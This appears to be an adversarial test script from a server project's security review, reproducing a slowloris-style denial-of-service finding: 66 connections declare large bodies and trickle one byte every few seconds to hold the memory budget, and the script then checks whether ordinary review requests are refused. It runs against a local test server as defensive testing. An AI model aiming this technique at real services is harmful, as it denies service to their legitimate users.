"""ADV finding 4: the budget is reserved from the declared Content-Length when the headers are in,
before a byte of the body: a client that sends headers and then nothing (no bandwidth, no memory
of the server's) holds its reservation until the silence timeout (5 s) or trickles a byte every
few seconds until the body deadline (10 s), then reconnects. Declared bodies just under the
"large" threshold (budget/64, so the 1/8 reserve for small ones does not apply): 66 of them take
the whole budget. From ONE address and 66 connections, every ordinary review is then refused 429.
  f4_hold.py [SECONDS [HOLDERS]]  (defaults 20, 66)
Legit client: a typical PropertyOverride review every 0.5 s, each retried on 429 after 1 s up to
10 times within 10 s as the API server does. Exit 1 when under half of them pass."""
import os, socket, sys, threading, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from advlib import Server, post, head, TYPICAL

secs = float(sys.argv[1]) if len(sys.argv) > 1 else 20
small = int(sys.argv[2]) if len(sys.argv) > 2 else 66
srv = Server(96, 8)
budget = 96 << 20
small_len = (budget // 64 - (64 << 10) - 1) // 29   # reservation just at budget/64: "small"
stop = time.monotonic() + secs
holder_conns = [0]

def holder(length):
    while time.monotonic() < stop:
        s = socket.socket()
        s.settimeout(1)
        try:
            s.connect(("127.0.0.1", srv.port))
            s.sendall(head(length))
            holder_conns[0] += 1
            t0 = time.monotonic()
            while time.monotonic() < stop and time.monotonic() - t0 < 9:
                try:
                    if s.recv(1) == b"":   # answered (429) or closed: reconnect
                        break
                except socket.timeout:
                    pass
                except OSError:
                    break
                if int(time.monotonic() - t0) % 4 == 3:
                    try:
                        s.sendall(b" ")    # one byte every ~4 s: never silent for 5 s
                    except OSError:
                        break
                    time.sleep(1)
        except OSError:
            pass
        finally:
            s.close()
        time.sleep(float(os.environ.get("ADV_HOLD_RETRY", "0.05")))

ths = [threading.Thread(target=holder, args=(small_len,)) for _ in range(small)]
[t.start() for t in ths]
time.sleep(1)
held_at = srv.stats()["inflight"]
legit = []
lk = threading.Lock()

def legit_one():
    t0 = time.monotonic()
    for a in range(11):
        st, _, _ = post(srv.port, TYPICAL, timeout=10, src="127.0.0.9")
        if st != 429 or time.monotonic() - t0 > 9:
            break
        time.sleep(1)
    with lk:
        legit.append((st, a + 1, time.monotonic() - t0))

lts = []
while time.monotonic() < stop - 10:
    t = threading.Thread(target=legit_one)
    t.start()
    lts.append(t)
    time.sleep(0.5)
[t.join() for t in lts]
[t.join() for t in ths]
time.sleep(0.5)
after = srv.stats()
srv.stop()
ok = sum(1 for r in legit if r[0] == 200)
print("attacker: 1 address, %d connections at once (%d x Content-Length %d), %d connections in %.0f s, "
      "no body bytes but one per 4 s; budget in flight while held: %.1f of 96 MiB" % (
          small, small, small_len, holder_conns[0], secs, held_at / 2**20))
print("legit typical reviews (API-server-like retries, 10 s): %d of %d answered 200; statuses %s; in flight after: %d"
      % (ok, len(legit), sorted(set(r[0] for r in legit)), after["inflight"]))
sys.exit(1 if ok * 2 < len(legit) else 0)
